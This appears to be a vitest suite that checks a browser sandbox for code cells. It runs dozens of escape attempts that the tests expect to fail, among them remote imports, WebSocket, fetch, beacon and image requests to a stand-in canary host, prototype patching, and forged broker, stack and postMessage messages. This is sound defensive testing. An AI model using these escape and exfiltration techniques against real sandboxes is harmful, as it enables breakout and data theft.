// What a cell may try against the page, the network and the other cells. Each attempt runs as a cell of its own and says
// what it got hold of; nothing may reach the server that counts, and the kernel must go on working.
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { lines, openLabPage, type LabPage } from './lab-page.ts';
import type { Lab } from './page/main.ts';

let lab: LabPage;
/** Addresses that something of the page has got an answer from, and pages that it has opened. */
const requested: string[] = [];
let known = 0;

beforeAll(async () => {
  lab = await openLabPage();
  // Not 'request': that also tells of what the policy has stopped.
  lab.page.context().on('response', (response) => requested.push(response.url()));
  lab.page.context().on('page', (page) => requested.push(`new page ${page.url()}`));
  lab.page.on('framenavigated', (frame) => requested.push(`navigated ${frame.url()}`));
  await lab.page.evaluate(() => {
    localStorage.setItem('secret', 'page');
    document.cookie = 'secret=page';
  });
  await lab.run('warm', '1');
  await lab.loaded();
  known = requested.length;
});
afterAll(() => lab.close());

afterEach(async () => {
  // The barrier: whatever the attempt has started has had its turn when a cell after it has run.
  const after = await lab.run('barrier', "import { sleep } from 'lab'; await sleep(30); 'works'");
  expect(lines(after.outputs)).toEqual(['= works']);
  expect(lab.reached).toEqual([]);
  expect(requested.slice(known)).toEqual([]);
  expect(lab.page.url()).toBe(`${lab.origin}/deep/base/`);
});

/** Each ends with an expression; what it gives says that nothing was got. `CANARY` is the address of the counting server. */
const attempts: [what: string, source: string, gives: string | RegExp][] = [
  ['fetch', 'typeof fetch + typeof globalThis.fetch', 'undefinedundefined'],
  ['XMLHttpRequest', 'typeof globalThis.XMLHttpRequest', 'undefined'],
  [
    'EventSource and WebTransport',
    '[typeof globalThis.EventSource, typeof globalThis.WebTransport]',
    '[undefined, undefined]',
  ],
  ['the global WebSocket', 'typeof globalThis.WebSocket + typeof globalThis.WebSocketStream', 'undefinedundefined'],
  ['importScripts', 'typeof globalThis.importScripts', 'undefined'],
  [
    'import() of an address',
    "let got = 'loaded'; try { await import('http://CANARY/x.js') } catch (e) { got = e.message } got",
    /cannot be imported/,
  ],
  [
    'import() of an address through the Function constructor',
    "let got = 'loaded'; try { await Function('return import(\"http://CANARY/x.js\")')() } catch (e) { got = e.name } got",
    'TypeError',
  ],
  [
    'import() of a data address',
    "let got = 'loaded'; try { await Function('return import(\"data:text/javascript,1\")')() } catch (e) { got = e.name } got",
    'TypeError',
  ],
  ['Worker and SharedWorker', '[typeof globalThis.Worker, typeof globalThis.SharedWorker]', '[undefined, undefined]'],
  ['navigator with sendBeacon, storage, serviceWorker', 'typeof globalThis.navigator', 'undefined'],
  ['indexedDB', 'typeof globalThis.indexedDB', 'undefined'],
  ['caches and cookieStore', '[typeof globalThis.caches, typeof globalThis.cookieStore]', '[undefined, undefined]'],
  ['localStorage and cookies', '[typeof localStorage, typeof document]', '[undefined, undefined]'],
  [
    'parent, top, opener, frames',
    '[typeof parent, typeof top, typeof opener, typeof frames, typeof window]',
    /^\[(undefined(, )?){5}\]$/,
  ],
  ['location and open', '[typeof location, typeof open]', '[undefined, undefined]'],
  ['postMessage to the sandbox', '[typeof postMessage, typeof globalThis.postMessage]', '[undefined, undefined]'],
  [
    'listening to the sandbox',
    "globalThis.onmessage = () => console.log('heard'); typeof addEventListener",
    'undefined',
  ],
  ['BroadcastChannel', 'typeof globalThis.BroadcastChannel', 'undefined'],
  [
    'MessageChannel and MessagePort',
    '[typeof globalThis.MessageChannel, typeof globalThis.MessagePort]',
    '[undefined, undefined]',
  ],
  ['WebRTC', '[typeof globalThis.RTCPeerConnection, typeof globalThis.RTCDataChannel]', '[undefined, undefined]'],
  ['ending the worker', 'typeof globalThis.close', 'undefined'],
  ['fonts from the network', '[typeof globalThis.FontFace, typeof globalThis.fonts]', '[undefined, undefined]'],
  [
    'a fetch through another constructor',
    "[].constructor.constructor('return typeof fetch + typeof self')()",
    'undefinedundefined',
  ],
  [
    'the global object by eval',
    "(0, eval)('typeof fetch + typeof postMessage + typeof setTimeout')",
    'undefinedundefinedundefined',
  ],
  [
    'the global object by a sloppy function',
    "Function('return [typeof this.fetch, typeof this.indexedDB]')()",
    '[undefined, undefined]',
  ],
  [
    'interfaces by the prototype chain of the global object',
    `let chain = [], at = globalThis;
     while ((at = Object.getPrototypeOf(at))) chain.push(...Object.getOwnPropertyNames(at));
     chain.filter((name) => /fetch|import|indexed|caches|postMessage|close|navigator|location/.test(name))`,
    '[]',
  ],
  [
    'a new binding for what was removed',
    'try { globalThis.Promise = class {} } catch (e) { e.name }; Promise.name',
    'Promise',
  ],
  [
    'patching Array',
    tryAll("Array.prototype.push = () => 'mine'", 'Array.prototype[Symbol.iterator] = null', 'Array.from = null'),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'patching Object',
    tryAll(
      "Object.prototype.cell = 'other'",
      'Object.entries = null',
      "Object.defineProperty(Object.prototype, 'type', { set() {} })",
    ),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'patching Promise',
    tryAll('Promise.prototype.then = null', 'Promise.prototype.constructor = null', 'Promise.resolve = null'),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'patching Function',
    tryAll('Function.prototype.call = null', 'Function.prototype.apply = null', 'Function.prototype.bind = null'),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'patching Reflect, JSON and Map',
    tryAll('Reflect.apply = null', 'JSON.stringify = null', 'Map.prototype.get = null'),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'patching iterators',
    tryAll(
      'Object.getPrototypeOf([][Symbol.iterator]()).next = null',
      'Object.getPrototypeOf(new Map().entries()).next = null',
      '(async () => {}).__proto__.x = 1',
    ),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'patching events',
    tryAll(
      'EventTarget.prototype.dispatchEvent = null',
      "Object.defineProperty(MessageEvent.prototype, 'data', { get: () => 1 })",
      'Event.prototype.x = 1',
    ),
    /^\[TypeError, TypeError, TypeError\]$/,
  ],
  [
    'stealing the port through patched postMessage',
    `let port = null, seen = [];
     const proto = Object.getOwnPropertyNames(globalThis).map((name) => globalThis[name]?.prototype).find((p) => p && 'postMessage' in p);
     if (proto) proto.postMessage = function () { port = this };
     console.log('x'); String(port) + String(proto)`,
    'nullundefined',
  ],
  [
    'the port through the cell’s own WebSocket',
    `const socket = new WebSocket('ws://in-page/mqtt');
     [...Object.getOwnPropertyNames(socket), ...Object.getOwnPropertyNames(Object.getPrototypeOf(socket))].filter((n) => /port|link|#/i.test(n))`,
    '[]',
  ],
  ['kernel functions through the stack', 'typeof Error.prepareStackTrace', 'undefined'],
  [
    'a stack hook',
    `let hooked = 'no'; try { Error.prepareStackTrace = (_, sites) => { hooked = 'yes'; return sites } } catch (e) { hooked = e.name }
     try { null.x } catch (e) { String(e.stack) } hooked`,
    'TypeError',
  ],
  [
    'the caller of the cell',
    `const tries = [() => (function () { return arguments.callee })(), () => (function f() { return f.caller })(), () => Function('return arguments.callee.caller')()];
     tries.map((go) => { try { return String(go()) } catch (e) { return e.name } })`,
    '[TypeError, TypeError, null]',
  ],
  [
    'the scope object as `this` of a call',
    "globalThis.caught = []; Function('globalThis.caught.push(this === globalThis)')(); caught",
    '[true]',
  ],
  ['breaking out of the wrapper', "globalThis.out = 1; '}}}))'", '}}}))'],
  [
    'a foreign address for the cell’s WebSocket',
    `await new Promise((resolve) => { const s = new WebSocket('ws://CANARY/x'); s.onopen = () => resolve('open'); s.onclose = () => resolve('closed'); setTimeout(() => resolve('held'), 100) })`,
    'held',
  ],
];

function tryAll(...statements: string[]): string {
  const tries = statements.map((statement) => `() => { ${statement} }`).join(', ');
  return `[${tries}].map((go) => { try { go(); return 'done' } catch (e) { return e.name } })`;
}

test.each(attempts)('a cell cannot use %s', async (what, source, gives) => {
  const cell = `attempt-${attempts.findIndex(([name]) => name === what)}`;
  const ran = await lab.run(cell, source.replaceAll('CANARY', lab.canary));
  const shown = lines(ran.outputs).at(-1)?.replace(/^= /, '') ?? 'nothing';
  if (typeof gives === 'string') expect(shown).toBe(gives);
  else expect(shown).toMatch(gives);
});

test('a cell cannot navigate or read the page from the sandbox, whatever global is left', async () => {
  const ran = await lab.run(
    'globals',
    'Object.getOwnPropertyNames(globalThis).filter((name) => { try { return globalThis[name] !== undefined } catch { return true } })',
  );
  const left = lines(ran.outputs)[0] ?? '';
  expect(left).not.toMatch(
    /\b(self|onerror|navigator|location|trustedTypes|scheduler|crossOriginIsolated|name|origin|isSecureContext)\b/,
  );
});

test('a foreign address is asked about and not connected to', async () => {
  const asked = await lab.page.evaluate(() => (globalThis as unknown as { lab: Lab }).lab.asked);
  expect(asked).toContain(`ws://${lab.canary}/x`);
});

test('a cell cannot catch what the kernel gives to clients of other cells; a client of its own it may change', async () => {
  const ran = await lab.run(
    'patcher',
    `import mqtt from 'mqtt';
     const client = mqtt.connect('ws://in-page/mqtt');
     const tries = [];
     for (const key of ['on', 'emit', 'listeners', 'off', 'end', 'constructor']) {
       for (let at = Object.getPrototypeOf(client); at && at !== Object.prototype; at = Object.getPrototypeOf(at)) {
         if (!Object.hasOwn(at, key)) continue;
         try { at[key] = () => 'mine'; tries.push(key) } catch (e) { tries.push(e.name) }
         try { Object.defineProperty(at, key, { value: 1 }); tries.push(key) } catch (e) { tries.push(e.name) }
       }
     }
     client.handleMessage = (packet, done) => done();
     client.end(true);
     [...new Set(tries)]`,
  );
  expect(lines(ran.outputs)).toEqual(['= [TypeError]']);
});

test('a cell cannot speak for the broker: the wire sees what was sent, under the cell that sent it', async () => {
  await lab.run(
    'forged-broker',
    `import { sleep } from 'lab';
     const socket = new WebSocket('ws://in-page/mqtt', 'mqtt');
     await new Promise((open) => { socket.onopen = open });
     const connack = new Uint8Array([0x20, 0x02, 0x00, 0x00]);
     socket.dispatchEvent(new MessageEvent('message', { data: connack.buffer }));
     socket.onmessage?.(new MessageEvent('message', { data: connack.buffer }));
     socket.send(new Uint8Array([0x10, 12, 0, 4, 77, 81, 84, 84, 4, 2, 0, 0, 0, 0]));
     await sleep(100)`,
  );
  await lab.page.waitForFunction(() => (globalThis as unknown as { lab: Lab }).lab.packets.length >= 2);
  const packets = await lab.page.evaluate(() => (globalThis as unknown as { lab: Lab }).lab.packets);
  expect(packets).toEqual(['forged-broker to-broker', 'forged-broker to-client']);
});

test('the page believes messages of the kernel’s own port only', async () => {
  const heard = await lab.page.evaluate(() => {
    const { messages } = (globalThis as unknown as { lab: Lab }).lab;
    const before = messages.length;
    const sandbox = document.querySelector('iframe');
    window.dispatchEvent(new MessageEvent('message', { data: { type: 'failed', message: 'forged' }, source: window }));
    sandbox?.contentWindow?.postMessage({ type: 'outputs', cell: 'warm', execution: 1, outputs: [], dropped: 0 }, '*');
    return messages.length - before;
  });
  expect(heard).toBe(0);
});

test('a made-up stack does not put an error under another cell', async () => {
  await lab.run('victim', "console.log('mine')");
  const ran = await lab.run(
    'forger',
    `import { sleep } from 'lab';
     const forged = new Error('forged'); forged.stack = 'Error: forged\\n at cell-victim.ts?aaaaaaaa:1:1\\n at cell-victim.ts:1:1';
     void Promise.reject(forged); await sleep(20)`,
  );
  expect(lines(ran.outputs)).toEqual(['! Error: forged']);
  const victim = await lab.page.evaluate(() => (globalThis as unknown as { lab: Lab }).lab.outputs('victim').length);
  expect(victim).toBe(1);
});

test('a cell cannot end an execution of another cell or show something there', async () => {
  await lab.run('quiet', "console.log('said by quiet')");
  await lab.run(
    'loud',
    `const seen = new Set(), open = [globalThis, console, setTimeout, WebSocket, WebSocket.prototype];
     while (open.length) {
       const at = open.pop();
       if ((typeof at !== 'object' && typeof at !== 'function') || at === null || seen.has(at)) continue;
       seen.add(at);
       for (const key of Reflect.ownKeys(at)) { try { open.push(at[key]) } catch {} }
     }
     for (const at of seen) for (const key of Reflect.ownKeys(at)) if (/^(post|postMessage|push|emit|execute|report|send)$/.test(String(key)) && typeof at[key] === 'function') {
       try { at[key]({ type: 'outputs', cell: 'quiet', execution: 1, outputs: [{ id: 9, kind: 'log', level: 'log', values: [] }], dropped: 0 }) } catch {}
     }`,
  );
  const quiet = await lab.page.evaluate(() =>
    (globalThis as unknown as { lab: Lab }).lab.outputs('quiet').map(({ kind }) => kind),
  );
  expect(quiet).toEqual(['log']);
});

test('the sandbox’s own document lets nothing out', async () => {
  const sandbox = lab.page.frames().find((it) => it !== lab.page.mainFrame());
  const got = await sandbox?.evaluate(async (canary) => {
    const tries: (() => unknown)[] = [
      () => fetch(`http://${canary}/frame`),
      () => new WebSocket(`ws://${canary}/frame`),
      () => navigator.sendBeacon(`http://${canary}/frame`),
      () => Object.assign(new Image(), { src: `http://${canary}/frame` }),
      () => localStorage.length,
      () => document.cookie,
      () => parent.document,
      () => top?.location.assign(`http://${canary}/frame`),
      () => open(`http://${canary}/frame`),
    ];
    return Promise.all(
      tries.map(async (go) =>
        Promise.resolve()
          .then(go)
          .then(
            (it) => (it === null ? 'null' : typeof it),
            (e: unknown) => (e as Error).name,
          ),
      ),
    );
  }, lab.canary);
  expect(got?.[0]).toBe('TypeError');
  expect(got?.slice(4, 7)).toEqual(['SecurityError', 'SecurityError', 'SecurityError']);
  expect(got?.slice(7)).toEqual(['SecurityError', 'null']);
});
